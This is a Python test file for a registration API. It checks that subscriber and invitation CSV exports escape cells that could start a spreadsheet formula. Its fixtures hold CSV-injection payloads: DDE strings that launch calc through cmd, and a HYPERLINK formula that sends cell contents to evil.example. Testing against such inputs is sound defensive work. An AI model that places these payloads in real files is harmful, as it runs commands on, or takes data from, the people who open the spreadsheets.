"""What a prospect or a client typed cannot run as a formula in the partner's spreadsheet: every
CSV the service or its command line writes prefixes a cell that would start a formula with '."""

from __future__ import annotations

import csv
import io

import pytest

from registration_api.cli import main as cli
from registration_api.domain import api_keys
from registration_api.domain.csv_export import safe_cell
from tests.support import valid_form

SITE = "oblako-plus"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\uff1d1+1",
]


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def bearer(api) -> dict[str, str]:
    return {"Authorization": f"Bearer {api_keys.create(api.service.engine, SITE, 'test', api.clock())}"}


@pytest.fixture
def partner_api(make_api, smtp):
    return make_api(smtp.url, background=False)


def test_names_companies_and_reasons_in_the_subscribers_csv_are_text(partner_api):
    api = partner_api
    with api.client() as client:
        numbers = []
        for i, formula in enumerate(FORMULAS):
            answer = client.post(
                f"/r/{SITE}/trial",
                headers={"Accept": "application/json"},
                data=valid_form(name=formula, company=formula, email=f"lead{i}@client.example"),
            )
            assert answer.status_code == 201, answer.text
            numbers.append(answer.json()["subscriber_number"])
    with api.client(headers=bearer(api)) as client:
        client.post(f"/api/v1/sites/{SITE}/subscribers/{numbers[0]}/gone", json={"reason": "=cmd|' /C calc'!A0"})
        as_json = client.get(f"/api/v1/sites/{SITE}/subscribers").json()
        rows = read_csv(client.get(f"/api/v1/sites/{SITE}/subscribers", params={"format": "csv"}).text)
    by_number = {row["number"]: row for row in rows}
    for number, formula in zip(numbers, FORMULAS, strict=True):
        assert by_number[number]["name"] == "'" + formula and by_number[number]["company"] == "'" + formula
        assert by_number[number]["phone"] == "+79123456789", "the phone the service stored is a number, left as it is"
    assert by_number[numbers[0]]["gone_reason"] == "'=cmd|' /C calc'!A0"
    assert {row["name"] for row in as_json} == set(FORMULAS), "JSON carries the values as typed"


def test_addresses_in_the_invitations_csv_are_text_in_the_api_and_the_cli(
    partner_api, monkeypatch, capsys, sites_dir, database_url
):
    api = partner_api
    emails = ["=1+2@client.example", "+7912@client.example", "-2+3@client.example"]
    with api.client(headers=bearer(api)) as client:
        for email in emails:
            assert client.post(f"/api/v1/sites/{SITE}/invitations", json={"email": email}).status_code == 201
        from_api = read_csv(client.get(f"/api/v1/sites/{SITE}/invitations", params={"format": "csv"}).text)
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("VAR_DIR", str(api.settings.var_dir))
    assert cli(["invitations", "list", SITE, "--format", "csv", "--sites", str(sites_dir)]) == 0
    from_cli = read_csv(capsys.readouterr().out)
    for rows in (from_api, from_cli):
        assert sorted(row["email"] for row in rows) == sorted("'" + email for email in emails)
        assert all(row["trial_days"] == "30" and row["code"][0].isalnum() for row in rows)


@pytest.mark.parametrize(
    "value, shown",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        (" =1+1", "' =1+1"),
        ("\n@A1", "'\n@A1"),
        ("\uff0b1", "'\uff0b1"),
        ("+79161234567", "+79161234567"),
        ("+7916123456|calc", "'+7916123456|calc"),
        ("+7 916 123-45-67", "'+7 916 123-45-67"),
        ("+79161234567\n=1+1", "'+79161234567\n=1+1"),
        ("Анна", "Анна"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (30, 30),
        (-5, -5),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_an_apostrophe(value, shown):
    assert safe_cell(value) == shown
